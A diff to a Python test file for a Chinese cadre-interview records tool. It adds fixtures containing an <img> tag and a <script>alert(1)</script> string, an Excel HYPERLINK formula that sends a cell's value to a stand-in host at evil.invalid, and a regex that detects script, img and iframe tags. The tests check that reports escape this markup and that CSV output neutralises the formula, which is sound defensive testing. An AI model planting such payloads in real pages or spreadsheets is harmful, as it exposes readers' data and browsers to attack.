@@ -12,6 +12,7 @@ import contextlib
 import csv
 import io
 import os
+import re
 import stat
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -43,6 +44,14 @@ unit: 市财政局
 post: 调研员
 ---
 """
+MARKUP = '<img src="http://evil.invalid/u.png">'  # data that must stay text in every HTML report
+FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"点此")'  # what Excel would run
+QIAN = f"""---
+name: 钱七
+unit: '{MARKUP}科'
+post: 科员
+---
+"""
 RECORD = {
     "held_at": "2026-03-10T09:30",
     "place": "市委组织部三楼谈话室",
@@ -51,6 +60,12 @@ RECORD = {
     "follow_ups": [
         {"what": "请王芳协调张伟爱人就医", "owner": "P-01", "due": "2026-04-10"},
         {"what": "送达调任通知", "owner": "干部二科", "due": "2026-03-12", "done": True},
+        {
+            "what": f"核实{MARKUP}<script>alert(1)</script>",
+            "owner": "干部一科",
+            "due": "2026-08-01",
+        },
+        {"what": FORMULA, "owner": "干部一科", "due": "2026-08-02"},
     ],
     "deferred": ["对班子分工的不同意见"],
 }
@@ -112,6 +127,7 @@ def _build(root: Path, keydir: Path) -> World:
     zhang = world.cadres["zhang"] = _new_cadre(ws, folder, "zhang", PROFILE_ZH)
     lina = world.cadres["lina"] = _new_cadre(ws, folder, "lina", LINA)
     wang = world.cadres["wang"] = _new_cadre(ws, folder, "wang", WANG_QIANG)
+    world.cadres["qian"] = _new_cadre(ws, folder, "qian", QIAN)
     os.environ["TALKBOOK_NOW"] = "2026-04-02T09:00"
     ok(ws.as_("P-01", "event", zhang, "post_change", "--date", "2026-03-01", "--note", "调任"))
     ok(ws.as_("P-01", "event", lina, "hardship", "--date", "2026-04-01", "--note", "老人生病"))
@@ -181,13 +197,28 @@ def test_all_writes_every_report_owner_only(world: World) -> None:
         elif path.suffix == ".html":
             text = data.decode("utf-8")
             assert text.startswith("<!DOCTYPE html>") and "@page" in text and "@media print" in text
-            assert "<script" not in text and "http://" not in text.replace(SVG_NS, "")
-            assert "https://" not in text and "src=" not in text
+            assert not EXTERNAL.search(text), path.name  # self-contained, and data stays text
         else:
             assert data.decode("utf-8").startswith("# ")
 
 
 SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
+EXTERNAL = re.compile(r"<(script|img|link|iframe|object|embed)\b|url\(|@import", re.IGNORECASE)
+
+
+def test_markup_in_the_data_stays_text_in_html(world: World) -> None:
+    pages = [ok(world.report(n, "--format", "html", "--out", "-")).stdout for n in NAMES]
+    pages.append(
+        ok(world.report("form", world.talks["held"], "--format", "html", "--out", "-")).stdout
+    )
+    for page in pages:
+        assert not EXTERNAL.search(page)
+    for name in NAMES:  # Markdown viewers render raw HTML
+        assert not EXTERNAL.search(ok(world.report(name, "--out", "-")).stdout), name
+    form = ok(world.report("form", world.talks["held"], "--out", "-")).stdout
+    assert not EXTERNAL.search(form) and "&lt;script>alert(1)&lt;/script>" in form
+    assert "&lt;img src=&#34;http://evil.invalid/u.png&#34;&gt;科" in pages[0]  # coverage
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[-1]  # the form
 
 
 @pytest.mark.parametrize("name", ["coverage", "speakers", "occasions"])
@@ -257,7 +288,13 @@ def test_approvals_with_age(world: World) -> None:
 
 def test_followups_open_only(world: World) -> None:
     rows = table(ok(world.report("followups", "--format", "csv", "--out", "-")).stdout_bytes)
-    assert [(r["talk"], r["n"], r["overdue"]) for r in rows] == [(world.talks["held"], "1", "1")]
+    held = world.talks["held"]
+    assert [(r["talk"], r["n"], r["overdue"]) for r in rows] == [
+        (held, "1", "1"),
+        (held, "3", "0"),
+        (held, "4", "0"),
+    ]
+    assert rows[2]["what"] == "'" + FORMULA  # text to Excel, not a formula
     assert "送达调任通知" not in ok(world.report("followups", "--out", "-")).stdout
 
 
@@ -393,7 +430,7 @@ def test_workspace_templates_win_and_package_ones_serve_older_workspaces(world: 
     path = world.ws.root / "templates" / "zh-CN" / "reports" / "coverage.md.j2"
     with replaced(path, "# 本单位的覆盖表\n\n{{ report.total.cadres }} 人\n"):
         text = ok(world.report("coverage", "--out", "-")).stdout
-    assert text == "# 本单位的覆盖表\n\n2 人\n"
+    assert text == "# 本单位的覆盖表\n\n3 人\n"
     with replaced(path, None):  # a workspace from before report templates
         text = ok(world.report("coverage", "--out", "-")).stdout
     assert "谈心谈话覆盖情况" in text and "李娜" in text
